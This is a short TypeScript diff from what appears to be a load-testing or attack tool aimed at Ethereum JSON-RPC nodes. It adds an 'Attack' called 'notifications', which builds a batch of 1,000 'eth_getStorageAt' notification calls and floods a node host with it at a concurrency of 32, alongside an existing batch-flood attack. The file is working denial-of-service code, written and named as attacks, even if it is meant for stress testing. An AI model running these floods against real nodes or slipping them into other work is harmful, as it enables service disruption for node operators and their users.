@@ -31,3 +31,12 @@ export const batchFlood: Attack = {
     return flood(16, { target, seen, signal }, { host: hosts.node, body: () => body });
   },
 };
+
+export const notifications: Attack = {
+  name: 'notifications',
+  run(target, seen, signal) {
+    const one = JSON.stringify({ jsonrpc: '2.0', method: 'eth_getStorageAt', params: STORAGE });
+    const body = `[${Array.from({ length: 1_000 }, () => one).join(',')}]`;
+    return flood(32, { target, seen, signal }, { host: hosts.node, body: () => body });
+  },
+};
